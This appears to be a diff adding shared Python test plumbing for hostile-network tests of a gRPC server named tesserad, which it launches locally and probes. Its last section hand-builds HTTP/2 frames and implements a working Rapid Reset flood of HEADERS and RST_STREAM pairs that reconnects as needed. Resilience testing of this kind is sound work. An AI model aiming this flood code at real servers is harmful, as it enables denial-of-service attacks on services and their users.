@@ -1,0 +1,235 @@
+"""Shared plumbing of the hostile-network tests: a real tesserad in a temp
+dir (optionally under a descriptor limit), its stderr in a file, its memory
+from /proc, and a WhoAmI probe through Debian's python3-grpcio."""
+
+import os
+import re
+import resource
+import shutil
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+
+class Failure(Exception):
+    pass
+
+
+def check(cond, what):
+    if not cond:
+        raise Failure(what)
+
+
+class Server:
+    """tesserad on 127.0.0.1:0 over a fresh data dir."""
+
+    def __init__(self, tesserad, root, args=(), nofile=None):
+        self.tesserad = tesserad
+        self.root = root
+        self.data = os.path.join(root, "data")
+        init = subprocess.run([tesserad, "init", "--data_dir=" + self.data],
+                              capture_output=True, text=True, timeout=30)
+        check(init.returncode == 0, "tesserad init failed: " + init.stderr)
+        self.admin_token = init.stdout.strip().splitlines()[-1]
+        self.log_path = os.path.join(root, "tesserad.log")
+        self.args = list(args)
+        self.nofile = nofile
+        self.proc = None
+        self.address = None
+        self.port = None
+
+    def start(self):
+        log = open(self.log_path, "ab")
+
+        def limit():
+            if self.nofile is not None:
+                resource.setrlimit(resource.RLIMIT_NOFILE,
+                                   (self.nofile, self.nofile))
+        self.proc = subprocess.Popen(
+            [self.tesserad, "--listen=127.0.0.1:0",
+             "--data_dir=" + self.data] + self.args,
+            stdout=log, stderr=subprocess.PIPE, preexec_fn=limit)
+        deadline = time.time() + 30
+        lines = []
+        while time.time() < deadline:
+            line = self.proc.stderr.readline().decode("utf-8", "replace")
+            if not line:
+                break
+            lines.append(line)
+            log.write(line.encode())
+            m = re.search(r"serving on (\S+)", line)
+            if m:
+                self.address = m.group(1)
+                self.port = int(self.address.rsplit(":", 1)[1])
+                log.flush()
+                threading.Thread(target=self._drain, args=(log,),
+                                 daemon=True).start()
+                return self.address
+        raise Failure("tesserad did not start: " + "".join(lines))
+
+    def _drain(self, log):
+        for chunk in iter(lambda: self.proc.stderr.read1(4096), b""):
+            log.write(chunk)
+            log.flush()
+
+    def log_lines(self):
+        with open(self.log_path, "rb") as f:
+            return f.read().decode("utf-8", "replace").splitlines()
+
+    def status(self, field):
+        """A field of /proc/PID/status in KiB (VmRSS, VmHWM)."""
+        with open("/proc/%d/status" % self.proc.pid) as f:
+            for line in f:
+                if line.startswith(field + ":"):
+                    return int(line.split()[1])
+        raise Failure("no %s in /proc status" % field)
+
+    def alive(self):
+        return self.proc is not None and self.proc.poll() is None
+
+    def stop(self):
+        if self.proc and self.proc.poll() is None:
+            self.proc.terminate()
+            try:
+                self.proc.wait(timeout=20)
+            except subprocess.TimeoutExpired:
+                self.proc.kill()
+                self.proc.wait()
+
+
+def whoami(stubs, address, token, timeout):
+    """One WhoAmI on a fresh channel; returns the user id or raises."""
+    sys.path.insert(0, stubs)
+    import grpc
+    from tessera.v1 import identity_pb2, identity_pb2_grpc
+    with grpc.insecure_channel(address) as channel:
+        stub = identity_pb2_grpc.IdentityServiceStub(channel)
+        resp = stub.WhoAmI(identity_pb2.WhoAmIRequest(), timeout=timeout,
+                           metadata=(("authorization", "Bearer " + token),))
+        return resp.user.user_id
+
+
+def served_within(stubs, address, token, seconds):
+    """True if a fresh client gets WhoAmI answered within `seconds`."""
+    deadline = time.time() + seconds
+    last = None
+    while time.time() < deadline:
+        try:
+            whoami(stubs, address, token,
+                   timeout=max(0.5, deadline - time.time()))
+            return True, None
+        except Exception as e:  # grpc.RpcError, mostly
+            last = e
+            time.sleep(0.2)
+    return False, last
+
+
+def raise_own_nofile():
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+
+
+def main(test):
+    """Parses --tesserad and --stubs (and test-specific flags given as
+    extra); runs test(args, root) in a temp dir; exits 0 on success."""
+    import argparse
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--tesserad", required=True)
+    ap.add_argument("--stubs", required=True)
+    ap.add_argument("--nginx", default="/usr/sbin/nginx")
+    ap.add_argument("--streams", type=int, default=100000)
+    ap.add_argument("--keep", action="store_true")
+    a = ap.parse_args()
+    root = tempfile.mkdtemp(prefix="tessera-hostile-")
+    started = time.time()
+    try:
+        test(a, root)
+    except Failure as e:
+        print("FAIL:", e, file=sys.stderr)
+        return 1
+    finally:
+        if not a.keep:
+            shutil.rmtree(root, ignore_errors=True)
+        else:
+            print("kept", root, file=sys.stderr)
+    print("PASS in %.1fs" % (time.time() - started))
+    return 0
+
+
+# HTTP/2, written by hand so the attack is not limited by a client
+# library's bookkeeping (RFC 9113 frames, RFC 7541 static-table HPACK).
+H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def h2_frame(ftype, flags, stream, payload):
+    n = len(payload)
+    return (bytes([n >> 16 & 0xff, n >> 8 & 0xff, n & 0xff, ftype, flags])
+            + (stream & 0x7fffffff).to_bytes(4, "big") + payload)
+
+
+def _hpack_str(s):
+    b = s.encode()
+    assert len(b) < 127
+    return bytes([len(b)]) + b
+
+
+def grpc_request_headers(path, authority, scheme="http"):
+    """A HEADERS block for a gRPC call, without the dynamic table, so that
+    the same bytes serve every stream."""
+    return (b"\x83"                                          # :method POST
+            + (b"\x87" if scheme == "https" else b"\x86")    # :scheme
+            + b"\x04" + _hpack_str(path)                     # :path
+            + b"\x01" + _hpack_str(authority)                # :authority
+            + b"\x0f\x10" + _hpack_str("application/grpc")  # content-type
+            + b"\x00" + _hpack_str("te") + _hpack_str("trailers"))
+
+
+def rapid_reset_bytes(first_stream, count, block):
+    """HEADERS then RST_STREAM(CANCEL) on `count` new streams."""
+    out = []
+    for i in range(count):
+        sid = first_stream + 2 * i
+        out.append(h2_frame(0x1, 0x4, sid, block))          # END_HEADERS
+        out.append(h2_frame(0x3, 0x0, sid, (8).to_bytes(4, "big")))
+    return b"".join(out)
+
+
+def drain(sock):
+    """Reads and drops whatever the peer sends until it closes."""
+    def run():
+        try:
+            while sock.recv(65536):
+                pass
+        except OSError:
+            pass
+    t = threading.Thread(target=run, daemon=True)
+    t.start()
+    return t
+
+
+def rapid_reset(connect, streams, block, chunk=200):
+    """Sends `streams` HEADERS+RST_STREAM pairs, reconnecting with
+    `connect()` whenever the peer closes (as a proxy does after its
+    per-connection request limit). Returns (streams sent, connections)."""
+    sent = 0
+    connections = 0
+    while sent < streams:
+        sock = connect()
+        connections += 1
+        drain(sock)
+        try:
+            sock.sendall(H2_PREFACE + h2_frame(0x4, 0, 0, b""))
+            sid = 1
+            while sent < streams and sid < (1 << 31) - 2 * chunk:
+                n = min(chunk, streams - sent)
+                sock.sendall(rapid_reset_bytes(sid, n, block))
+                sid += 2 * n
+                sent += n
+        except OSError:
+            pass
+        finally:
+            sock.close()
+        check(connections <= streams, "peer refuses every connection")
+    return sent, connections
